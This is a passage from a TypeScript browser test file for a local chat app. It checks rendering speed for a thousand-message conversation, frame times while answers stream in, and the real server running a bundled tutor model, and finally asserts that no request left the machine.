        : `Answer ${n} with **bold**, a list:\n\n- one\n- two\n\nand code:\n\n\`\`\`ts\nconst n = ${n};\n\`\`\`\n\n${"Some more sentences to fill the paragraph. ".repeat(6)}`,
    at: 1_700_000_000_000 + n,
    ...(n % 2 === 1 ? { model: "tutor", status: "done", reasoning: "A thought.\n".repeat(10) } : {}),
  }));
  const conversation = { title: "A thousand", createdAt: 1_700_000_000_000, head: "message-999", messages };
  const page = await visit();
  await page.locator(".greeting").waitFor();
  await page.evaluate(
    (body) => fetch("/app/api/import", { method: "POST", headers: { "x-weir-app": "1" }, body }),
    JSON.stringify({ format: "weir-conversations", version: 1, conversations: [conversation] }),
  );
  const entry = page.locator(".entry a", { hasText: "A thousand" });
  await entry.waitFor();
  const times: number[] = [];
  for (let round = 0; round < 3; round++) {
    await page.goto(server.url);
    await entry.waitFor();
    await page.waitForTimeout(200);
    times.push(
      await entry.evaluate(
        (link: Element) =>
          new Promise<number>((resolve) => {
            const started = performance.now();
            link.click();
            const look = (): void => {
              if (
                document.querySelector(".answer")?.closest(".list") &&
                document.body.textContent.includes("Answer 999")
              )
                requestAnimationFrame(() => setTimeout(() => resolve(performance.now() - started)));
              else requestAnimationFrame(look);
            };
            look();
          }),
      ),
    );
  }
  const rows = await page.locator(".row").count();
  const keys = await typing(page, "the quick brown fox jumps over it");
  const sorted = keys.toSorted((a, b) => a - b);
  console.log(
    `1,000 messages: opened in ${times.map((time) => time.toFixed(0)).join(", ")} ms, ${rows} rows in the page; ` +
      `a key: median ${median(keys).toFixed(1)} ms, worst ${sorted.at(-1)!.toFixed(1)} ms`,
  );
  assert.ok(rows < 60, "the list is virtual");
  if (timed) {
    assert.ok(Math.min(...times) < 1000);
    assert.ok(median(keys) < 50);
  }
  // The end is in view.
  const gap = await page.locator(".list").evaluate((list) => list.scrollHeight - list.scrollTop - list.clientHeight);
  assert.ok(gap < 50, `${gap} px from the end`);
});

interface TraceEvent {
  name: string;
  tid: number;
  tdur?: number;
  args?: { name?: string };
}

/** Traces a page; the result is the most processor time (ms) that one task of its main thread took. */
async function traced(page: Page, work: () => Promise<void>): Promise<number> {
  const client = await page.context().newCDPSession(page);
  const events: TraceEvent[] = [];
  client.on("Tracing.dataCollected", ({ value }) => events.push(...(value as unknown as TraceEvent[])));
  await client.send("Tracing.start", { transferMode: "ReportEvents", categories: "toplevel,__metadata" });
  await work();
  const complete = new Promise((resolve) => client.once("Tracing.tracingComplete", resolve));
  await client.send("Tracing.end");
  await complete;
  const threads = events.filter(({ name, args }) => name === "thread_name" && args?.name === "CrRendererMain");
  const mains = new Set(threads.map(({ tid }) => tid));
  const tasks = events.filter(({ name, tid }) => name.endsWith("RunTask") && mains.has(tid));
  assert.ok(tasks.length > 100, "the trace holds the page's tasks");
  return Math.max(...tasks.map(({ tdur }) => tdur ?? 0)) / 1000;
}

test("streaming 2,000 tokens a second holds no frame for more than 100 ms", async () => {
  const paragraph =
    "Water that is slowed gives up its stones, and **the bed** is shaped by what it leaves; see `weir.ts` for $a^2+b^2=c^2$. ";
  const block = `${paragraph.repeat(4)}\n\n- first point with some words\n- second point\n\n\`\`\`ts\nconst flow = (depth: number) => depth ** 1.5;\n\`\`\`\n\n| depth | flow |\n|---|---|\n| 1 | 1 |\n| 4 | 8 |\n\n`;
  const tokens = tokensOf(block.repeat(200)).length;
  const characters = block.length * 200;
  answerWith({ content: block.repeat(200), delay: 10, burst: 26 });
  const page = await visit();
  await page.locator(".greeting").waitFor();
  await send(page, "flow");
  await page.locator(".markdown.running p").first().waitFor();
  let frames = { worst: 0, count: 0, seconds: 0, shown: 0 };
  const busiest = await traced(page, async () => {
    frames = await page.evaluate(async () => {
      const text = (): number => document.querySelector(".markdown.running")?.textContent?.length ?? 0;
      const before = text();
      const started = performance.now();
      let last = started;
      let worst = 0;
      let count = 0;
      while (last - started < 4000) {
        const now = await new Promise<number>((resolve) => requestAnimationFrame(resolve));
        worst = Math.max(worst, now - last);
        last = now;
        count++;
      }
      return { worst, count, seconds: (last - started) / 1000, shown: text() - before };
    });
  });
  const rate = ((frames.shown / characters) * tokens) / frames.seconds;
  // Time the page spends is the page's; time it waits for a processor that others use is the machine's.
  console.log(
    `streaming: ${rate.toFixed(0)} tokens/s shown, ${(frames.count / frames.seconds).toFixed(0)} frames/s, longest frame ` +
      `${frames.worst.toFixed(0)} ms by the clock, longest task of the page ${busiest.toFixed(0)} ms of processor time`,
  );
  assert.ok(frames.shown > 1000, "the stream ran");
  if (timed) {
    assert.ok(busiest < 100);
    assert.ok(frames.worst < 100);
  }
});

test("the real server with the shipped tutor: marked steps, tokens and experts from the engine, stop, export", async () => {
  const path = process.env.WEIR_TUTOR ?? `${root}models/tutor`;
  if (!existsSync(path)) {
    console.log(`no model at ${path}: the page was proven on the scripted engine only`);
    return;
  }
  const own = await serveModel(path);
  try {
    const page = await visit("", { on: own });
    await page.locator(".greeting").waitFor();
    await page.keyboard.press("Control+i");
    await send(page, "What is 47 × 36?");
    await page.locator(".answer .actions").waitFor({ timeout: 60_000 });
    await page.locator(".answer .markdown").waitFor();
    const panel = page.getByRole("complementary", { name: "See inside" });
    await panel.locator(".token").first().waitFor();
    await panel.locator(".token").nth(2).click();
    assert.ok((await panel.locator(".alternatives li").count()) >= 1);
    assert.equal(await panel.locator("canvas").count(), 1, "the engine reports its experts");
    await page.locator(".step").first().waitFor();
    assert.ok((await page.locator(".step.right").count()) > 0, "the verifier marked the steps");
    await shoot(page, "tutor-model");
    await page.reload();
    await page.locator(".step").first().waitFor();
    await page.goto(`${own.url}models`);
    await page.getByRole("button", { name: "Speed test" }).click();
    await page.locator("dt", { hasText: "Answer" }).waitFor({ timeout: 60_000 });
    await page.goto(`${own.url}usage`);
    await page.locator("td", { hasText: "tutor" }).waitFor();
  } finally {
    await own.close();
  }
});

test("in all of this no page failed, nothing was refused by the policy, and no request left the machine", () => {
  assert.deepEqual(troubles, []);
});
